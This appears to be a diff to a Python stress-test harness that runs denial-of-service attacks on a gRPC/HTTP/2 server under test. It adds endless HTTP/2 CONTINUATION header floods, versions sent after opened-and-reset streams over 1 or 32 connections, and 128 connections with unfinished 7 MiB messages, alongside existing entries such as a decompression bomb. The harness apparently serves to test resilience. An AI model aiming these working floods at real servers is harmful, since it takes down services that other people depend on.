@@ -94,15 +94,52 @@ def burst(server: Server) -> None:
         time.sleep(5)
 
 
-def endless(server: Server) -> None:
+def endless(connection: socket.socket, stream: int) -> None:
     """Begin the headers of a call, and go on with them."""
     field = b"\0" + bytes((100,)) + b"x" * 100 + bytes((100,)) + b"y" * 100
-    said, sent = attack.frame(attack.CONTINUATION, 0, 1, field * 80), 0
-    with attack.connected(server.address) as connection, suppress(OSError):
-        connection.sendall(attack.frame(attack.HEADERS, 0, 1, attack.headers(f"/{attack.SERVICE}/GetInfo")))
+    said, sent = attack.frame(attack.CONTINUATION, 0, stream, field * 80), 0
+    with suppress(OSError):
+        connection.sendall(attack.frame(attack.HEADERS, 0, stream, attack.headers(f"/{attack.SERVICE}/GetInfo")))
         while sent < 2 << 30:
             connection.sendall(said)
             sent += len(said)
+
+
+def endless_at_once(server: Server) -> None:
+    """Do so as the first that is said."""
+    with attack.connected(server.address) as connection:
+        endless(connection, 1)
+
+
+def endless_behind(server: Server, count: int) -> None:
+    """Do so over connections on which 16 jobs were begun, and all of them left, before."""
+    block = attack.headers(attack.RELIGHT, authorization=f"Bearer {TOKEN}")
+    said = b"".join(attack.frame(attack.HEADERS, attack.END_HEADERS, stream, block) for stream in range(1, 33, 2))
+    said += b"".join(attack.frame(attack.RST_STREAM, 0, stream, bytes(4)) for stream in range(1, 33, 2))
+    with ExitStack() as stack:
+        connections = [stack.enter_context(attack.connected(server.address)) for _ in range(count)]
+        for each in connections:
+            each.sendall(said)
+        time.sleep(1)
+        threads = [threading.Thread(target=endless, args=(each, 33)) for each in connections]
+        for thread in threads:
+            thread.start()
+        for thread in threads:
+            thread.join()
+
+
+def unfinished(server: Server) -> None:
+    """Ask for health over 128 connections with two messages each, and leave the last byte of 7 MiB out."""
+    data = b"\0" + (7 * MIB).to_bytes(4, "big") + bytes(7 * MIB - 1)
+    said, block, starts = b"", attack.headers("/grpc.health.v1.Health/Check"), range(0, len(data), 16_000)
+    for stream in (1, 3):
+        said += attack.frame(attack.HEADERS, attack.END_HEADERS, stream, block)
+        said += b"".join(attack.frame(attack.DATA, 0, stream, data[at : at + 16_000]) for at in starts)
+    with ExitStack() as stack:
+        for _ in range(128):
+            with suppress(OSError):
+                stack.enter_context(attack.connected(server.address)).sendall(said)
+        time.sleep(5)
 
 
 def long_names(server: Server) -> None:
@@ -156,7 +193,10 @@ ATTACKS: dict[str, Callable[[Server], None]] = {
     "100,000 calls never ended": lambda server: calls(server, f"/{attack.SERVICE}/Relight", reset=False),
     "100,000 calls that watch health": lambda server: calls(server, "/grpc.health.v1.Health/Watch", reset=False),
     "19,200 calls over 300 connections": burst,
-    "headers without end": endless,
+    "128 connections, unfinished messages": unfinished,
+    "headers without end": endless_at_once,
+    "headers without end, behind jobs": lambda server: endless_behind(server, 1),
+    "the same over 32 connections": lambda server: endless_behind(server, 32),
     "32 names of 8 MiB": long_names,
     "764 KiB that unpack to 768 MiB": bomb,
     "1,000 silent connections": lambda server: silent(server.address, 1000),
